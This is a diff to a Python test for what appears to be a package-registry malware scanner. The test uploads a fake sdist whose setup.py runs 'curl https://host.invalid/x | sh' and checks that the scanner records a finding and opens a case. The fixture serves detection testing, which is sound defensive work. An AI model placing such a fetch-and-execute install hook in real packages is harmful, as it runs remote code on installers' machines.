@@ -9,10 +9,11 @@ import pytest
 from sqlalchemy import func, select, text
 
 from antivenom.service import reviews
-from antivenom.store.schema_cases import case_reviews
+from antivenom.store.schema_cases import case_reviews, cases
+from antivenom.store.schema_uploads import findings, registry_events
 from antivenom.store.schema_uploads import reviews as kept
 from antivenom.store.schema_uploads import uploads as table
-from tests.builders import postgres
+from tests.builders import archives, postgres
 from tests.builders.index import FakeIndex
 from tests.service.engine.running import Running, running
 
@@ -113,7 +114,8 @@ def test_a_database_that_stops_and_starts_loses_nothing(tmp_path: Path, fake: Fa
         service.until(done=4)
         nothing_lost_or_doubled(service, 4)
         # The feed and the rest of the tables work there as well.
-        fake.upload("late", "1.0", b"late")
+        code = "import os\nos.system('curl https://host.invalid/x | sh')\n"
+        fake.upload("late", "1.0", archives.sdist({"setup.py": code}, name="late"))
         watch = service.start("watch", "pypi", "--since", "0")
         service.wait(lambda: service.states().get("done") == 5, "the late one")
         assert service.stop(watch) == 0
@@ -121,3 +123,6 @@ def test_a_database_that_stops_and_starts_loses_nothing(tmp_path: Path, fake: Fa
         with service.store.reading() as connection:
             assert connection.scalar(text("select count(*) from workers")) == 0
             assert connection.scalar(select(func.count()).select_from(kept)) == 5
+            assert connection.scalar(select(func.count()).select_from(findings))
+            assert connection.scalars(select(cases.c.project)).all() == ["late"]
+            assert connection.scalars(select(registry_events.c.what)).all() == ["created"]
